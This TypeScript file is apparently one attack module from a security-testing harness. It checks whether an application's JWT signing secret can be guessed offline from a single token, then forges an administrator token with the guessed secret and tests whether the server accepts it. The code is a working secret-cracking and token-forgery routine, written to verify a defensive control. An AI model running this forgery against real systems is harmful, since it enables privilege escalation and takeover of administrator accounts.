import { createHmac } from 'node:crypto';
import type { Attack, Judgement } from '../attack.ts';
import type { Effort } from '../stage.ts';
import { readCompact, signingInput } from '../tokens/compact-token.ts';
import { accessTokenOf, asAdmin, statesClaims, withAccessToken } from '../tokens/presented-token.ts';
import { searchSecret } from '../tokens/secret-search.ts';

type Seen = {
  readonly guesses: number;
  readonly guessesPerSecond: number;
  readonly found: boolean;
  /** Whom a token speaks for that was signed with what was found. */
  readonly forgedSpeaksFor: 'admin' | 'somebody' | 'nobody';
};

const mostGuesses: Record<Effort, number> = { smoke: 20_000, quick: 100_000, standard: 500_000, full: 2_000_000 };
const hashes: Readonly<Record<string, 'sha256' | 'sha384' | 'sha512'>> = {
  HS256: 'sha256',
  HS384: 'sha384',
  HS512: 'sha512',
};

export default {
  kind: 'attack',
  id: 'jwt-weak-secret',
  title: 'Secret guessed from one token',
  question: 'Can the signing secret be guessed from a token, out of sight of the server?',
  goal: 'Find the secret that signs all tokens, and sign one as administrator.',
  precondition: 'own-account',
  severity: 'critical',
  references: ['CWE-521', 'CWE-326', 'RFC 7518 §3.2', 'RFC 8725 §2.2', 'RFC 8725 §3.5', 'ASVS 11.2.3'],
  steps: [
    'The attacker signs in to his own account and keeps one token.',
    'On threads of his own he computes its signature with the commonest secrets, variations and pairs of them, without a request to the server.',
    "With what he finds he signs the administrator's id and role and asks who he is.",
  ],
  controls: ['jwt-secret-guessable'],
  appliesTo: statesClaims,
  expected: () => 'blocked',

  async attempt(stage) {
    const held = await stage.signIn(stage.attacker);
    const token = accessTokenOf(held);
    const { header, payload, signature } = readCompact(token);
    const hash = hashes[String(header.alg)];
    if (!hash) throw new Error(`tokens are signed with ${header.alg}, which has no secret to guess`);
    const input = token.slice(0, token.lastIndexOf('.'));
    const { secret, ...search } = await searchSecret(
      { input, signature, hash, most: mostGuesses[stage.effort] },
      stage.signal,
    );
    if (secret === undefined) return { ...search, found: false, forgedSpeaksFor: 'nobody' };
    // the search may have outlived the token that it was about
    const exp = Math.floor(Date.now() / 1_000) + 60;
    const forged = signingInput(header, { ...asAdmin(stage, payload), ...('exp' in payload && { exp }) });
    const own = createHmac(hash, secret).update(forged).digest('base64url');
    const id = await stage.whoAmI(withAccessToken(held, `${forged}.${own}`));
    const forgedSpeaksFor = id === undefined ? 'nobody' : id === stage.admin.id ? 'admin' : 'somebody';
    return { ...search, found: true, forgedSpeaksFor };
  },

  judge({ guesses, guessesPerSecond, found, forgedSpeaksFor }): Judgement {
    const rate = `${guesses} guesses at ${guessesPerSecond} per second`;
    if (!found) return { outcome: 'blocked', tries: guesses, successes: 0, because: `not found in ${rate}` };
    if (forgedSpeaksFor !== 'admin')
      return {
        outcome: 'inconclusive',
        tries: guesses,
        because: `the secret was found in ${rate}, but a token signed with it spoke for ${forgedSpeaksFor}`,
      };
    return {
      outcome: 'succeeded',
      tries: guesses,
      successes: 1,
      because: `the secret was found in ${rate}, and a token signed with it speaks for the administrator`,
    };
  },
} satisfies Attack<Seen>;
